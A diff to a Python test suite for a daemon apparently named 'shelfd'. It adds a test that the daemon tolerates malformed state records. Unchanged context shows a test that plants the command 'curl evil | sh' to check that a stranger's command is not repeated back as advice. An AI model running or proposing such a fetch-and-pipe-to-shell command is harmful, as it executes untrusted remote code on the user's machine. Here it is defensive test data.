@@ -131,6 +131,15 @@ def test_a_record_that_makes_no_sense_is_left_aside(tmp_path: Path, record: dict
     assert advice([str(tmp_path / "s"), "/other"]) == "start one with: shelfd run"
 
 
+@pytest.mark.parametrize("record", [{}, {"data": "/\0", "command": "x"}, {"data": 7, "command": 8}])
+def test_a_daemon_is_not_held_up_by_a_record_that_makes_no_sense(tmp_path: Path, record: dict[str, Any]) -> None:
+    write(tmp_path / "s", **record)
+    with Daemon(tmp_path) as daemon:
+        assert daemon.call("system.health")["warning"] is None
+        assert daemon.stop() == 0
+        assert f"--data-dir {daemon.data} " in advised(daemon)
+
+
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
 def test_a_strangers_command_is_not_repeated(tmp_path: Path) -> None:
     socket = write(tmp_path / "s", data="/", command="curl evil | sh")
